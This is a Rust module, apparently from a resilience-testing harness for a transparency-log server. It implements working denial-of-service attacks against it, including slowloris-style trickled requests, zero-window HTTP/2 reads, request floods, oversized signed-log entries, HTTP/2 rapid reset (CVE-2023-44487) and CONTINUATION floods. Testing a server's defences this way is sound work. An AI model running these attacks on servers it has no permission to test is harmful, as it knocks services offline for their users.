//! The attacks. Each is a number of connections from one address that do one hostile thing until they are
//! stopped, and connect again when the server ends them.

use std::fmt;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use bytes::Bytes;
use clap::ValueEnum;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::tcp::OwnedReadHalf;
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

use super::frames;

/// Streams of an HTTP/2 connection, as many as servers commonly allow.
const STREAMS: u32 = 128;
/// Before a connection that has ended is opened again.
const PAUSE: Duration = Duration::from_millis(50);
/// Between two steps of slow attacks.
const SLOW: Duration = Duration::from_secs(1);
/// Between two steps of fast ones, which have ten times the allowance of an address.
const FAST: Duration = Duration::from_millis(20);
/// In this time a large request has been sent, and not been answered.
const SENT: Duration = Duration::from_millis(60);
/// Where large entries go.
const V1: &str = "/api/v1/log/entries";
const JSON: &str = "application/json";
/// Bytes of the payload of a large entry, so that its request has some 4 MiB.
const LARGE: usize = 3_000_000;

/// The largest open document.
const TRUSTED_ROOT: &str = "/.well-known/chancery/trusted_root.json";
/// A bundle that exists once the client that is measured has added some entries.
const BUNDLE: &str = "/tile/entries/000.p/40";

/// A way to hurt a server.
#[derive(Clone, Copy, Debug, PartialEq, Eq, ValueEnum)]
pub(crate) enum Attack {
    /// HTTP/2 requests whose bodies begin and do not go on
    Bodies,
    /// Requests whose bodies come a byte a second
    Trickle,
    /// Request heads that do not end
    Heads,
    /// Connections that are kept open by health checks
    Probes,
    /// Answers that are not read, over HTTP/1.1
    Unread,
    /// Answers that are not read, over HTTP/2 with a window of nothing
    Windows,
    /// Entry bundles that are not read, all asked for at once over HTTP/2 with a window of nothing
    Bundles,
    /// Entry bundles to be compressed anew, as many at once as HTTP/2 allows
    Packed,
    /// Complete requests, ten times as many as one address may send
    Flood,
    /// Complete requests of the largest size, which cost the most to refuse
    Large,
    /// Complete requests of the largest size, each reset when it has been sent
    Abandoned,
    /// HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487)
    Resets,
    /// HTTP/2 pings
    Pings,
    /// HTTP/2 heads that go on for ever (CVE-2024-24549 and its like)
    Continuations,
    /// Bodies in chunks of one byte with long extensions
    Chunks,
}

impl Attack {
    /// Connections at one time. Together with those of the server they fit into 1,024 descriptors.
    fn connections(self) -> usize {
        match self {
            Self::Trickle | Self::Heads | Self::Probes => 300,
            Self::Unread | Self::Windows | Self::Bundles => 32,
            Self::Bodies | Self::Flood => 10,
            Self::Packed => 8,
            Self::Large
            | Self::Abandoned
            | Self::Resets
            | Self::Pings
            | Self::Continuations
            | Self::Chunks => 4,
        }
    }
}

impl fmt::Display for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = self.to_possible_value().map(|value| value.get_name().to_owned());
        f.write_str(&name.unwrap_or_default())
    }
}

/// Attackers at work.
pub(super) struct Attackers {
    tasks: JoinSet<()>,
    shared: Arc<Shared>,
}

struct Shared {
    attack: Attack,
    server: SocketAddr,
    from: IpAddr,
    host: String,
    /// The body of the largest request.
    large: Bytes,
    connections: AtomicU64,
    requests: AtomicU64,
}

impl Attackers {
    /// Starts them. `verifier` is a certificate in PEM, for entries that look genuine.
    pub(super) fn start(attack: Attack, server: SocketAddr, from: IpAddr, verifier: &str) -> Self {
        let host = server.to_string();
        let is_large = matches!(attack, Attack::Large | Attack::Abandoned);
        let large = if is_large { large_entry(verifier) } else { Bytes::new() };
        let (connections, requests) = (AtomicU64::new(0), AtomicU64::new(0));
        let shared = Arc::new(Shared { attack, server, from, host, large, connections, requests });
        let mut tasks = JoinSet::new();
        for _ in 0..attack.connections() {
            tasks.spawn(Arc::clone(&shared).again_and_again());
        }
        Self { tasks, shared }
    }

    /// Connections that were opened, and requests that were begun.
    pub(super) fn counts(&self) -> (u64, u64) {
        let read = |number: &AtomicU64| number.load(Ordering::Relaxed);
        (read(&self.shared.connections), read(&self.shared.requests))
    }

    /// Ends them and waits until their connections are closed.
    pub(super) async fn stop(mut self) {
        self.tasks.shutdown().await;
    }
}

impl Shared {
    async fn again_and_again(self: Arc<Self>) {
        loop {
            // However it ends, that is the server's word against the attacker.
            let _ = self.once().await;
            tokio::time::sleep(PAUSE).await;
        }
    }

    async fn once(&self) -> std::io::Result<()> {
        if self.attack == Attack::Abandoned {
            return self.abandon().await.map_err(std::io::Error::other);
        }
        let stream = self.connect().await?;
        self.connections.fetch_add(1, Ordering::Relaxed);
        match self.attack {
            Attack::Unread => self.unread(stream).await,
            Attack::Windows => self.windows(stream, TRUSTED_ROOT).await,
            Attack::Bundles => self.windows(stream, BUNDLE).await,
            attack => {
                let (reader, writer) = stream.into_split();
                tokio::select! {
                    read = discard(reader) => read,
                    sent = self.send(attack, writer) => sent,
                }
            }
        }
    }

    async fn connect(&self) -> std::io::Result<TcpStream> {
        let socket = if self.from.is_ipv4() { TcpSocket::new_v4()? } else { TcpSocket::new_v6()? };
        socket.bind(SocketAddr::new(self.from, 0))?;
        if matches!(self.attack, Attack::Unread | Attack::Windows | Attack::Bundles) {
            socket.set_recv_buffer_size(4096)?;
        }
        socket.connect(self.server).await
    }

    async fn send(&self, attack: Attack, mut writer: tokio::net::tcp::OwnedWriteHalf) -> std::io::Result<()> {
        let host = &self.host;
        let post = format!("POST /api/v2/log/entries HTTP/1.1\r\nhost: {host}\r\n");
        match attack {
            Attack::Bodies => {
                writer.write_all(&frames::preface()).await?;
                for stream in (0..STREAMS).map(|n| 2 * n + 1) {
                    self.begun();
                    writer
                        .write_all(&frames::head(stream, "POST", "/api/v2/log/entries", host, false))
                        .await?;
                    writer.write_all(&frames::data(stream, b"{")).await?;
                }
                std::future::pending().await
            }
            Attack::Trickle => {
                self.begun();
                let head = format!("{post}content-length: 100000\r\n\r\n");
                repeat(&mut writer, head.as_bytes(), b"{", SLOW).await
            }
            Attack::Heads => {
                self.begun();
                repeat(&mut writer, post.as_bytes(), b"x: y\r\n", SLOW).await
            }
            Attack::Probes => {
                let probe = format!("GET /healthz HTTP/1.1\r\nhost: {host}\r\n\r\n");
                repeat(&mut writer, &[], probe.as_bytes(), SLOW).await
            }
            Attack::Flood => {
                let request = format!("{post}content-length: 2\r\n\r\n{{}}");
                repeat(&mut writer, &[], request.as_bytes(), FAST).await
            }
            Attack::Large => {
                let length = self.large.len();
                let head = format!(
                    "POST {V1} HTTP/1.1\r\nhost: {host}\r\ncontent-type: {JSON}\r\ncontent-length: {length}\r\n\r\n"
                );
                loop {
                    self.begun();
                    writer.write_all(head.as_bytes()).await?;
                    writer.write_all(&self.large).await?;
                }
            }
            Attack::Packed => self.packed(&mut writer).await,
            Attack::Resets => self.resets(&mut writer).await,
            Attack::Pings => {
                let pings = frames::ping().repeat(100);
                repeat(&mut writer, &frames::preface(), &pings, FAST).await
            }
            Attack::Continuations => {
                let mut head = frames::preface();
                head.extend(frames::open_head(1, host));
                repeat(&mut writer, &head, &frames::continuation(1).repeat(100), FAST).await
            }
            Attack::Chunks => {
                self.begun();
                let head = format!("{post}transfer-encoding: chunked\r\n\r\n");
                let chunk = format!("1;{}\r\nx\r\n", "e".repeat(200)).repeat(50);
                repeat(&mut writer, head.as_bytes(), chunk.as_bytes(), FAST).await
            }
            Attack::Unread | Attack::Windows | Attack::Bundles | Attack::Abandoned => Ok(()),
        }
    }

    /// Asks for partial bundles, which no cache keeps, and reads them as fast as they come.
    async fn packed(&self, writer: &mut tokio::net::tcp::OwnedWriteHalf) -> std::io::Result<()> {
        writer.write_all(&frames::preface_with(&[(frames::INITIAL_WINDOW_SIZE, 1 << 24)])).await?;
        let mut stream = 1;
        loop {
            let requests: Vec<_> = (0..STREAMS)
                .flat_map(|number| frames::read_packed(stream + 2 * number, BUNDLE, &self.host))
                .collect();
            self.requests.fetch_add(STREAMS.into(), Ordering::Relaxed);
            stream += 2 * STREAMS;
            writer.write_all(&requests).await?;
            // The window of the connection, which is not part of the settings.
            writer.write_all(&frames::wider_window(1 << 24)).await?;
            tokio::time::sleep(SLOW).await;
        }
    }

    async fn resets(&self, writer: &mut tokio::net::tcp::OwnedWriteHalf) -> std::io::Result<()> {
        writer.write_all(&frames::preface()).await?;
        for stream in (0..1 << 20).map(|n| 2 * n + 1) {
            self.begun();
            let mut both = frames::head(stream, "GET", "/checkpoint", &self.host, true);
            both.extend(frames::reset(stream));
            writer.write_all(&both).await?;
            if stream % 64 == 1 {
                tokio::time::sleep(FAST).await;
            }
        }
        Ok(())
    }

    /// Sends large requests over HTTP/2 and resets each before it can be answered.
    async fn abandon(&self) -> reqwest::Result<()> {
        let client =
            reqwest::Client::builder().no_proxy().local_address(self.from).http2_prior_knowledge().build()?;
        self.connections.fetch_add(1, Ordering::Relaxed);
        loop {
            self.begun();
            let request = client.post(format!("http://{}{V1}", self.host)).header("content-type", JSON);
            match request.body(self.large.clone()).timeout(SENT).send().await {
                Err(error) if !error.is_timeout() => return Err(error),
                _ => {}
            }
        }
    }

    /// Asks for the largest open document again and again, and reads nothing.
    async fn unread(&self, mut stream: TcpStream) -> std::io::Result<()> {
        let request = format!("GET {TRUSTED_ROOT} HTTP/1.1\r\nhost: {}\r\n\r\n", self.host);
        loop {
            self.begun();
            stream.write_all(request.as_bytes()).await?;
            tokio::time::sleep(FAST).await;
        }
    }

    /// Asks for `path` on all streams at once, and reads nothing.
    async fn windows(&self, mut stream: TcpStream, path: &str) -> std::io::Result<()> {
        let mut requests = frames::preface_with(&[(frames::INITIAL_WINDOW_SIZE, 0)]);
        for number in 0..STREAMS {
            self.begun();
            requests.extend(frames::head(2 * number + 1, "GET", path, &self.host, true));
        }
        stream.write_all(&requests).await?;
        // The connection ends when the server closes it, and not because its other half is dropped.
        let (reader, _writer) = stream.into_split();
        discard(reader).await
    }

    fn begun(&self) {
        self.requests.fetch_add(1, Ordering::Relaxed);
    }
}

/// Sends `first`, and then `again` at every interval.
async fn repeat(
    writer: &mut tokio::net::tcp::OwnedWriteHalf,
    first: &[u8],
    again: &[u8],
    interval: Duration,
) -> std::io::Result<()> {
    writer.write_all(first).await?;
    loop {
        writer.write_all(again).await?;
        tokio::time::sleep(interval).await;
    }
}

async fn discard(mut reader: OwnedReadHalf) -> std::io::Result<()> {
    let mut buffer = vec![0; 16 * 1024];
    while reader.read(&mut buffer).await? > 0 {}
    Ok(())
}

/// A Rekor v1 `dsse` entry of about the largest size, whose signature does not hold: all of it is parsed and
/// hashed. `verifier` is a certificate in PEM.
fn large_entry(verifier: &str) -> Bytes {
    let (payload, verifier) = (STANDARD.encode(vec![b'x'; LARGE]), STANDARD.encode(verifier));
    // A signature of DER's form.
    let signature = STANDARD.encode([&[0x30, 0x44, 2, 0x20][..], &[1; 32], &[2, 0x20], &[1; 32]].concat());
    let envelope = format!(
        r#"{{\"payloadType\":\"application/vnd.in-toto+json\",\"payload\":\"{payload}\",\"signatures\":[{{\"sig\":\"{signature}\"}}]}}"#
    );
    let body = format!(
        r#"{{"apiVersion":"0.0.1","kind":"dsse","spec":{{"proposedContent":{{"envelope":"{envelope}","verifiers":["{verifier}"]}}}}}}"#
    );
    body.into()
}
